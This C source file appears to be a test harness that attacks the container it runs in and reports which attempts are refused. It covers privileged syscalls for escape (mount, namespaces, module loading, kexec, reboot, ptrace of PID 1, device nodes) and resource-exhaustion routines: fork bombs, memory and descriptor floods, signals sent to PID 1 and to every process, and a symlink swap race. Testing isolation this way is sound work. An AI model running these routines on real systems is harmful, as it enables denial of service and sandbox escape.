/* Attacks on the box they run in, one per word of the command line. What was refused is printed as `NAME ERRNO`, what was not as `NAME OK`. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define TRY(name, call) do { errno = 0; long r_ = (long)(call); if (r_ < 0) printf("%s %d\n", name, errno); else printf("%s OK\n", name); fflush(stdout); } while (0)
#define MIB (1l << 20)

static char junk[4096];

static int try_setns(const char *kind) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/ns/%s", kind);
    int fd = open(path, O_RDONLY);
    return fd < 0 ? -1 : setns(fd, 0);
}

static long try_clone(unsigned long flag) {
    long pid = syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid((pid_t)pid, NULL, 0);
    return pid;
}

static long try_clone3(void) {
    struct { uint64_t flags, pidfd, child, parent, exit, stack, size, tls, set, num, cgroup; } a = {.flags = CLONE_NEWUSER, .exit = SIGCHLD};
    long pid = syscall(435, &a, sizeof a);
    if (pid == 0) _exit(0);
    return pid;
}

#ifdef __x86_64__
static long try_i386(long number) { /* `mount` of another machine type, by the door that still leads into the kernel */
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(number), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0) : "memory", "r8", "r9", "r10", "r11");
    if (r < 0) { errno = (int)-r; return -1; }
    return r;
}
#endif


static void mounts(void) {
    TRY("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL));
    TRY("remount", syscall(SYS_mount, NULL, "/usr", NULL, 4096 | 32, NULL));
    TRY("umount2", syscall(SYS_umount2, "/proc", 2));
    TRY("pivot_root", syscall(SYS_pivot_root, ".", "."));
    TRY("chroot", syscall(SYS_chroot, "."));
    TRY("open_tree", syscall(428, AT_FDCWD, "/usr", 1));
    TRY("move_mount", syscall(429, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0));
    TRY("fsopen", syscall(430, "tmpfs", 0));
    TRY("fsconfig", syscall(431, 0, 0, 0, 0, 0));
    TRY("fsmount", syscall(432, 0, 0, 0));
    TRY("fspick", syscall(433, AT_FDCWD, "/", 0));
    TRY("mount_setattr", syscall(442, AT_FDCWD, "/usr", 0, junk, 32));
    TRY("open_tree_attr", syscall(467, AT_FDCWD, "/usr", 1, junk, 32));
    TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", junk, junk, 0));
    TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, junk, 0));
}

static void namespaces(void) {
    static const struct { const char *name; unsigned long flag; } all[] = {
        {"user", CLONE_NEWUSER}, {"mnt", CLONE_NEWNS}, {"pid", CLONE_NEWPID}, {"net", CLONE_NEWNET}, {"ipc", CLONE_NEWIPC},
        {"uts", CLONE_NEWUTS}, {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80}};
    char name[64];
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        snprintf(name, sizeof name, "unshare-%s", all[i].name); TRY(name, unshare((int)all[i].flag));
        snprintf(name, sizeof name, "setns-%s", all[i].name); TRY(name, try_setns(all[i].name));
        if (all[i].flag == 0x80) continue; /* its bit is part of the exit signal in clone */
        snprintf(name, sizeof name, "clone-%s", all[i].name); TRY(name, try_clone(all[i].flag));
    }
    TRY("clone3", try_clone3());
#ifdef __x86_64__
    TRY("i386-mount", try_i386(21));
    TRY("i386-unshare", try_i386(310));
    TRY("x32-mount", syscall(0x40000000 | 165, 0, 0, 0, 0, 0));
#endif
}

static void kernel(void) {
    struct timeval tv = {0, 0};
    struct timespec ts = {0, 0};
    struct timex tx = {.modes = 0};
    TRY("bpf", syscall(SYS_bpf, 0, junk, 64));
    TRY("perf_event_open", syscall(SYS_perf_event_open, junk, 0, -1, -1, 0));
    TRY("userfaultfd", syscall(SYS_userfaultfd, 1));
    TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
    TRY("add_key", syscall(SYS_add_key, "user", "a", "b", 1, -3));
    TRY("request_key", syscall(SYS_request_key, "user", "a", NULL, -3));
    TRY("io_uring_setup", syscall(425, 8, junk));
    TRY("io_setup", syscall(SYS_io_setup, 8, memset(junk, 0, 8)));
    TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    TRY("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, 0, 0));
    TRY("init_module", syscall(SYS_init_module, junk, 64, ""));
    TRY("finit_module", syscall(SYS_finit_module, 0, "", 0));
    TRY("delete_module", syscall(SYS_delete_module, "loop", 0));
    TRY("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
    TRY("swapon", syscall(SYS_swapon, "/tmp/x", 0));
    TRY("syslog", syscall(SYS_syslog, 3, junk, 64));
    TRY("acct", syscall(SYS_acct, "/tmp/x"));
    TRY("quotactl", syscall(SYS_quotactl, 0, NULL, 0, NULL));
    TRY("settimeofday", syscall(SYS_settimeofday, &tv, NULL));
    TRY("clock_settime", syscall(SYS_clock_settime, 0, &ts));
    TRY("adjtimex", syscall(SYS_adjtimex, &tx));
    TRY("sethostname", sethostname("x", 1));
    TRY("setdomainname", setdomainname("x", 1));
    TRY("fanotify_init", syscall(SYS_fanotify_init, 0, 0));
    TRY("vhangup", syscall(SYS_vhangup));
    TRY("unknown-call", syscall(600, 0, 0, 0));
#ifdef __x86_64__
    TRY("iopl", syscall(SYS_iopl, 3));
    TRY("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
#endif
}

static void processes(void) {
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
    struct rlimit r;
    struct sched_param fifo = {.sched_priority = 1};
    TRY("ptrace-attach", ptrace(PTRACE_ATTACH, 1, 0, 0));
    TRY("ptrace-seize", ptrace(PTRACE_SEIZE, 1, 0, 0));
    TRY("process_vm_readv", process_vm_readv(1, &here, 1, &there, 1, 0));
    TRY("process_vm_writev", process_vm_writev(1, &here, 1, &there, 1, 0));
    int pidfd = (int)syscall(434, 1, 0);
    for (int i = 0; i < 64; i++) if (syscall(438, pidfd, i, 0) >= 0) printf("pidfd_getfd OK\n");
    TRY("kcmp", syscall(SYS_kcmp, 1, getpid(), 2, 0, 0));
    TRY("migrate_pages", syscall(SYS_move_pages, 1, 1, (void *[]){(void *)0x400000}, (int[]){0}, junk, 2));
    TRY("prlimit-1", prlimit(1, RLIMIT_NOFILE, NULL, &r));
    TRY("setpriority", setpriority(PRIO_PROCESS, 0, -20));
    TRY("sched_fifo", sched_setscheduler(0, SCHED_FIFO, &fifo));
    TRY("sched-1", sched_setaffinity(1, 0, NULL));
    TRY("no_new_privs-off", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    getrlimit(RLIMIT_NPROC, &r);
    r.rlim_cur = r.rlim_max = r.rlim_max + 1;
    TRY("rlimit-nproc", setrlimit(RLIMIT_NPROC, &r));
    getrlimit(RLIMIT_NOFILE, &r);
    r.rlim_cur = r.rlim_max = r.rlim_max + 1;
    TRY("rlimit-nofile", setrlimit(RLIMIT_NOFILE, &r));
    r.rlim_cur = r.rlim_max = RLIM_INFINITY;
    TRY("rlimit-fsize", setrlimit(RLIMIT_FSIZE, &r));
}

static void devices(void) {
    TRY("mknod-disk", mknod("/tmp/d1", S_IFBLK | 0666, makedev(254, 0)));
    TRY("mknod-mem", mknod("/tmp/d2", S_IFCHR | 0666, makedev(1, 1)));
    TRY("mknod-kmsg", mknod("/dev/shm/d3", S_IFCHR | 0666, makedev(1, 11)));
    TRY("mknod-whiteout", mknod("/tmp/d4", S_IFCHR | 0666, makedev(0, 0)));
    TRY("chmod-null", chmod("/dev/null", 0600));
    TRY("chown-null", chown("/dev/null", 1000, 1000));
    TRY("unlink-null", unlink("/dev/null"));
    TRY("write-usr", open("/usr/x", O_CREAT | O_WRONLY, 0644));
    TRY("chmod-usr", chmod("/usr/bin/env", 0777));
    TRY("link-usr", link("/usr/bin/env", "/tmp/env"));
    TRY("xattr-trusted", setxattr("/tmp", "trusted.overlay.opaque", "y", 1, 0));
    TRY("xattr-usr", setxattr("/usr", "user.x", "y", 1, 0));
}

static void sockets(void) {
    static const struct { const char *name; int family, type, protocol; } all[] = {
        {"raw", AF_INET, SOCK_RAW, 1}, {"raw6", AF_INET6, SOCK_RAW, 58}, {"ping", AF_INET, SOCK_DGRAM, 1}, {"packet", AF_PACKET, SOCK_RAW, 0x300},
        {"vsock", 40, SOCK_STREAM, 0}, {"alg", 38, SOCK_SEQPACKET, 0}, {"bluetooth", 31, SOCK_RAW, 0}, {"key", 15, SOCK_RAW, 2},
        {"xdp", 44, SOCK_RAW, 0}, {"tipc", 30, SOCK_SEQPACKET, 0}, {"can", 29, SOCK_RAW, 1}, {"rds", 21, SOCK_SEQPACKET, 0}, {"smc", 43, SOCK_STREAM, 0},
        {"sctp", AF_INET, SOCK_STREAM, 132}, {"dccp", AF_INET, 6, 33}, {"l2tp", AF_INET, SOCK_DGRAM, 115}, {"udplite", AF_INET, SOCK_DGRAM, 136},
        {"netfilter", AF_NETLINK, SOCK_RAW, 12}, {"audit", AF_NETLINK, SOCK_RAW, 9}, {"xfrm", AF_NETLINK, SOCK_RAW, 6}, {"usersock", AF_NETLINK, SOCK_RAW, 2}};
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) TRY(all[i].name, socket(all[i].family, all[i].type, all[i].protocol));
    struct ifreq r = {.ifr_name = "lo"};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    TRY("lo-down", ioctl(fd, SIOCSIFFLAGS, &r));
    struct { struct nlmsghdr head; char body[64]; } m = {.head = {sizeof m, 16, 1 | 4 | 0x600, 1, 0}}; /* RTM_NEWLINK */
    struct { struct nlmsghdr head; struct nlmsgerr error; char more[256]; } answer = {0};
    fd = socket(AF_NETLINK, SOCK_RAW, 0);
    if (fd >= 0 && send(fd, &m, sizeof m, 0) > 0 && recv(fd, &answer, sizeof answer, 0) > 0) { errno = 0; printf(answer.error.error < 0 ? "link-new %d\n" : "link-new OK\n", -answer.error.error); }
}

/* More processes for ever, each way it can be done; none of them ever ends by itself. */
static void forks(const char *how) {
    signal(SIGTERM, SIG_IGN); signal(SIGHUP, SIG_IGN); signal(SIGINT, SIG_IGN);
    for (;;) {
        if (!strcmp(how, "vfork")) { if (vfork() == 0) { for (;;) if (vfork() < 0) usleep(1000); } continue; }
        pid_t pid = fork();
        if (pid < 0) { usleep(500); continue; }
        if (pid) { if (!strcmp(how, "double")) waitpid(pid, NULL, 0); continue; }
        if (!strcmp(how, "setsid")) setsid();
        if (!strcmp(how, "double")) { setsid(); if (fork()) _exit(0); }
    }
}

static void zombies(long num) {
    long made = 0;
    while (made < num) {
        pid_t pid = fork();
        if (pid < 0) { usleep(100); continue; }
        if (pid == 0) { pid_t inner = vfork(); (void)inner; _exit(0); } /* the grandchild is left to PID 1 */
        waitpid(pid, NULL, 0);
        made += 2;
    }
    printf("%ld\n", made);
}

static void *touched(size_t size) {
    char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) return NULL;
    memset(p, 1, size);
    return p;
}

static char chunk[1 << 20];

static int fill_file(int fd) { /* what stopped a short write is told by the next */
    for (size_t done = 0; done < sizeof chunk;) {
        ssize_t n = write(fd, chunk, sizeof chunk - done);
        if (n <= 0) return -1;
        done += (size_t)n;
    }
    return 0;
}

static int fill_sockets(int family, int type, int protocol) { /* one socket pair filled until it blocks; how many bytes, or -1 */
    int pair[2], total = 0;
    (void)protocol;
    if (socketpair(family, type | SOCK_NONBLOCK, 0, pair) < 0) return -1;
    int big = 1 << 20;
    setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
    for (ssize_t n; (n = write(pair[0], chunk, 65536)) > 0;) total += (int)n;
    return total;
}

static int fill_pipe(void) {
    int pair[2], total = 0;
    if (pipe2(pair, O_NONBLOCK) < 0) return -1;
    fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
    for (ssize_t n; (n = write(pair[1], chunk, 65536)) > 0;) total += (int)n;
    return total;
}

/* Memory until it is refused; says after each MiB how much it has. The score is put back to what the agent's is: a hog may do that. */
static void memory(const char *how) {
    int fd = open("/proc/self/oom_score_adj", O_WRONLY);
    if (fd >= 0) { if (write(fd, "0", 1) < 0) {} close(fd); }
    signal(SIGXFSZ, SIG_IGN); /* a file at its bound is refused and not deadly */
    memset(chunk, 1, sizeof chunk);
    char name[64];
    snprintf(name, sizeof name, "%s/fill", !strcmp(how, "shm") ? "/dev/shm" : "/tmp");
    int file = !strcmp(how, "memfd") ? memfd_create("x", 0) : open(name, O_CREAT | O_RDWR, 0600);
    double have = 0, told = 0;
    while (have < 4096.0 * MIB) {
        int n = (int)MIB;
        errno = 0;
        if (!strcmp(how, "heap")) n = touched(MIB) ? n : -1;
        else if (!strcmp(how, "procs")) {
            if (fork() == 0) { if (!touched(4 * MIB)) _exit(1); for (;;) pause(); }
            n = 0; /* whether the child got it is told by nobody */
            usleep(2000);
        } else if (!strcmp(how, "shm") || !strcmp(how, "tmp") || !strcmp(how, "memfd")) {
            n = fill_file(file) == 0 ? n : -1;
            if (n < 0 && !strcmp(how, "memfd") && (file = memfd_create("x", 0)) >= 0) n = 0; /* the bound on one file's size: take another */
        } else if (!strcmp(how, "sysv")) {
            int id = shmget(IPC_PRIVATE, MIB, IPC_CREAT | 0600);
            char *p = id < 0 ? (void *)-1 : shmat(id, NULL, 0);
            if (p == (void *)-1) n = -1; else memset(p, 1, MIB);
        } else if (!strcmp(how, "pipes")) n = fill_pipe();
        else if (!strcmp(how, "unix")) n = fill_sockets(AF_UNIX, SOCK_STREAM, 0);
        else if (!strcmp(how, "tables")) { /* one touched page per 2 MiB: the tables weigh as much as the pages */
            char *p = mmap(NULL, 512 * MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
            if (p == MAP_FAILED) n = -1; else for (long i = 0; i < 256; i++) p[i * 2 * MIB] = 1;
            n = n < 0 ? n : (int)(2 * MIB);
        }
        if (n < 0 && (errno == EMFILE || errno == EAGAIN) && fork() == 0) continue; /* another table of descriptors */
        if (n < 0) { printf("refused %d after %.0f\n", errno, have / MIB); fflush(stdout); pause(); }
        have += n;
        if (have - told >= MIB) { told = have; printf("%.0f\n", have / MIB); fflush(stdout); }
    }
    printf("had %.0f\n", have / MIB);
}

static void descriptors(void) {
    long mine = 0;
    for (int i = 0; i < 8; i++) if (fork() == 0) { while (open("/dev/null", O_RDONLY) >= 0) {} for (;;) pause(); }
    while (open("/dev/null", O_RDONLY) >= 0) mine++;
    printf("%ld %d\n", mine, errno);
    fflush(stdout);
}

static void signals(void) { /* everything but what stops, at everyone and at PID 1 */
    for (long round = 0;; round++)
        for (int s = 1; s < 65; s++) {
            if (s == SIGSTOP || s == SIGTSTP || s == SIGTTIN || s == SIGTTOU) continue;
            kill(1, s);
            syscall(SYS_tgkill, 1, 1, s);
            if (s != SIGKILL || round % 64 == 0) kill(-1, s);
        }
}

static void stops(void) { if (fork()) _exit(0); setsid(); for (;;) kill(-1, SIGSTOP); }

static void timers(void) {
    for (int i = 0; i < 32; i++) signal(i, SIG_IGN);
    long num = 0;
    timer_t t;
    struct sigevent e = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1};
    struct itimerspec soon = {{0, 1000}, {0, 1}};
    while (num < 20000 && timer_create(CLOCK_MONOTONIC, &e, &t) == 0) { timer_settime(t, 0, &soon, NULL); num++; }
    struct itimerval alarm = {{0, 1}, {0, 1}};
    setitimer(ITIMER_REAL, &alarm, NULL);
    printf("%ld\n", num);
    fflush(stdout);
    for (;;) pause();
}

static void lease(const char *path) { /* whoever opens the file now waits for us, and we do not hear the call */
    signal(SIGIO, SIG_IGN);
    int fd = open(path, O_RDWR);
    TRY("lease", fcntl(fd, F_SETLEASE, F_WRLCK));
    if (fork()) _exit(0);
    setsid();
    for (;;) pause();
}

static void swap(const char *path, const char *target) { /* a file, then a link, then a folder, for ever */
    char other[4096];
    snprintf(other, sizeof other, "%s.other", path);
    if (fork()) _exit(0);
    setsid();
    for (;;) {
        unlink(other);
        if (symlink(target, other) == 0) rename(other, path);
        int fd = open(other, O_CREAT | O_WRONLY, 0644);
        if (fd >= 0) close(fd);
        rename(other, path);
    }
}

static void deep(long levels) {
    for (long i = 0; i < levels; i++) if (mkdir("d", 0755) < 0 || chdir("d") < 0) { printf("%ld %d\n", i, errno); return; }
    close(open("bottom", O_CREAT | O_WRONLY, 0644));
    printf("%ld\n", levels);
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "", *how = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "escape")) { mounts(); namespaces(); kernel(); processes(); devices(); sockets(); }
    else if (!strcmp(what, "forks")) forks(how);
    else if (!strcmp(what, "zombies")) zombies(atol(how));
    else if (!strcmp(what, "memory")) memory(how);
    else if (!strcmp(what, "descriptors")) descriptors();
    else if (!strcmp(what, "signals")) signals();
    else if (!strcmp(what, "stops")) stops();
    else if (!strcmp(what, "timers")) timers();
    else if (!strcmp(what, "lease")) lease(how);
    else if (!strcmp(what, "swap")) swap(how, argv[3]);
    else if (!strcmp(what, "deep")) deep(atol(how));
    else return 2;
    return 0;
}
